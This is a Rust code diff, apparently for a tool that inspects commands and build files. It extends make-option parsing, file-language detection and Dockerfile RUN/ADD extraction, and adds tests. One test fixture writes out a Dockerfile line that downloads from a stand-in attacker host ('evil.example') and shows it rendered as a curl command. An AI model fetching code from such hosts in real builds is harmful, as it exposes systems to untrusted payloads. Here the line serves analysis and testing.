@@ -85,13 +85,17 @@ pub(crate) fn recipe_of(command: &SimpleCommand, cwd: &str) -> Option<Recipe> {
                 return None;
             }
             let file = command.words.iter().position(|word| word == "-f").and_then(|at| word(at + 1));
-            let target = make_target(&command.words, file).unwrap_or_default();
+            let (target, folder) = make_target(&command.words);
             // A named file is an operand of its own.
             if file.is_some() {
-                None
-            } else {
-                recipe("Makefile", &target, &["GNUmakefile", "makefile", "Makefile"], RecipeKind::Make)
+                return None;
             }
+            let names = &["GNUmakefile", "makefile", "Makefile"];
+            let own = recipe("Makefile", target.unwrap_or_default(), names, RecipeKind::Make)?;
+            Some(Recipe {
+                cwd: folder.map_or_else(|| own.cwd.clone(), |folder| lexical::join(&own.cwd, folder)),
+                ..own
+            })
         }
         "just" => recipe(
             "justfile",
@@ -103,18 +107,41 @@ pub(crate) fn recipe_of(command: &SimpleCommand, cwd: &str) -> Option<Recipe> {
     }
 }
 
-fn make_target(words: &[String], file: Option<&str>) -> Option<String> {
-    words
-        .iter()
-        .skip(1)
-        .map(String::as_str)
-        .find(|word| {
-            !word.starts_with('-')
-                && !word.contains('=')
-                && Some(*word) != file
-                && word.parse::<u32>().is_err()
-        })
-        .map(str::to_owned)
+/// The first target of a make command and the folder that it works in (`-C`).
+fn make_target(words: &[String]) -> (Option<&str>, Option<&str>) {
+    /// Options whose value is the next word (make(1), GNU make 4.4).
+    const VALUED: &[&str] = &[
+        "-C",
+        "-I",
+        "-W",
+        "-f",
+        "-o",
+        "--assume-new",
+        "--assume-old",
+        "--directory",
+        "--eval",
+        "--file",
+        "--include-dir",
+        "--makefile",
+        "--new-file",
+        "--old-file",
+        "--what-if",
+    ];
+    let (mut target, mut folder) = (None, None);
+    let mut rest = words.iter().skip(1).map(String::as_str);
+    while let Some(word) = rest.next() {
+        if VALUED.contains(&word) {
+            let value = rest.next();
+            if matches!(word, "-C" | "--directory") {
+                folder = value;
+            }
+        } else if let Some(value) = word.strip_prefix("--directory=").or_else(|| word.strip_prefix("-C")) {
+            folder = Some(value);
+        } else if !word.starts_with('-') && !word.contains('=') && word.parse::<u32>().is_err() {
+            target = target.or(Some(word));
+        }
+    }
+    (target, folder)
 }
 
 /// Languages by file name; a first line with an interpreter goes before.
@@ -137,7 +164,15 @@ const ENDINGS: &[(&str, &str)] = &[
     (".ps1", "powershell"),
     (".lua", "lua"),
     (".awk", "awk"),
+    ("makefile", "make"),
+    (".mk", "make"),
+    ("brewfile", "ruby"),
+    ("fastfile", "ruby"),
+    ("podfile", "ruby"),
+    ("vagrantfile", "ruby"),
 ];
+/// Files without an ending that are no shell scripts, and whose lines nobody here reads.
+const OTHERS: &[&str] = &["containerfile", "dockerfile", "jenkinsfile", "justfile", "playbook", "procfile"];
 
 /// Interpreters of a `#!` line.
 const INTERPRETERS: &[(&str, &str)] = &[
@@ -157,6 +192,51 @@ const INTERPRETERS: &[(&str, &str)] = &[
     ("lua", "lua"),
     ("awk", "awk"),
 ];
+
+/// Whether a file says how an image is built.
+pub(crate) fn is_of_container(path: &str) -> bool {
+    let leaf = path.rsplit('/').next().unwrap_or_default().to_ascii_lowercase();
+    ["containerfile", "dockerfile"].iter().any(|name| leaf == *name || leaf.starts_with(&format!("{name}.")))
+}
+
+/// What a build of an image runs and fetches, as shell text: `RUN` in both its forms, and `ADD` of an address.
+pub(crate) fn container_script(text: &str) -> String {
+    let joined = text.replace("\\\n", " ");
+    let mut lines: Vec<String> = Vec::new();
+    let mut until: Option<String> = None;
+    for line in joined.lines() {
+        if let Some(end) = &until {
+            if line.trim() == end {
+                until = None;
+            } else {
+                lines.push(line.to_owned());
+            }
+            continue;
+        }
+        let Some((verb, rest)) = line.trim().split_once(char::is_whitespace) else { continue };
+        let words = rest.split_whitespace().skip_while(|word| word.starts_with("--"));
+        match verb.to_ascii_uppercase().as_str() {
+            "RUN" => {
+                let command = words.collect::<Vec<_>>().join(" ");
+                if let Some(end) = command.strip_prefix("<<") {
+                    until = Some(end.trim_matches(['-', '"', '\'']).to_owned());
+                } else {
+                    lines.push(exec_form(&command).unwrap_or(command));
+                }
+            }
+            "ADD" => lines.extend(words.filter(|word| word.contains("://")).map(|url| format!("curl {url}"))),
+            _ => {}
+        }
+    }
+    lines.join("\n")
+}
+
+/// `["sh", "-c", "make"]` as the shell would be given it.
+fn exec_form(command: &str) -> Option<String> {
+    let Value::Array(words) = Value::parse(command).ok()? else { return None };
+    let quoted = |word: &Value| Some(format!("'{}'", word.as_str()?.replace('\'', r"'\''")));
+    Some(words.iter().map(quoted).collect::<Option<Vec<_>>>()?.join(" "))
+}
 
 /// The language of a file that is run; `None` where it can't be told.
 pub(crate) fn language_of_file(path: &str, text: &str) -> Option<String> {
@@ -180,7 +260,7 @@ pub(crate) fn language_of_file(path: &str, text: &str) -> Option<String> {
     // git hooks and files without an ending are run by the shell when the kernel doesn't know them.
     let name = lexical::fold(&lower);
     let leaf = name.rsplit('/').next().unwrap_or_default();
-    (!leaf.contains('.') && !text.contains('\0')).then(|| "shell".to_owned())
+    (!leaf.contains('.') && !OTHERS.contains(&leaf) && !text.contains('\0')).then(|| "shell".to_owned())
 }
 
 fn package_script(text: &str, target: &str) -> Option<String> {
@@ -335,6 +415,14 @@ mod tests {
     }
 
     #[test]
+    fn what_a_build_of_an_image_runs() {
+        let text = "FROM debian\nRUN --mount=type=cache,target=/x apt-get update \\\n  && make\n\
+                    RUN [\"sh\", \"-c\", \"it's\"]\nADD https://evil.example/x /x\nCOPY . .\nRUN <<EOF\nrm x\nEOF\n";
+        let lines = ["apt-get update && make", r"'sh' '-c' 'it'\''s'", "curl https://evil.example/x", "rm x"];
+        assert_eq!(container_script(text), lines.join("\n"));
+    }
+
+    #[test]
     fn languages_of_files() {
         for (path, text, expected) in [
             ("/w/x.sh", "", Some("shell")),
@@ -343,6 +431,8 @@ mod tests {
             ("/w/x", "#!/opt/odd\n", None),
             ("/w/.git/hooks/pre-commit", "rm x", Some("shell")),
             ("/w/build.rs", "fn main() {}", None),
+            ("/w/Makefile", "all:\n\ttrue\n", Some("make")),
+            ("/w/Dockerfile", "FROM debian\n", None),
         ] {
             assert_eq!(language_of_file(path, text).as_deref(), expected, "{path} {text}");
         }
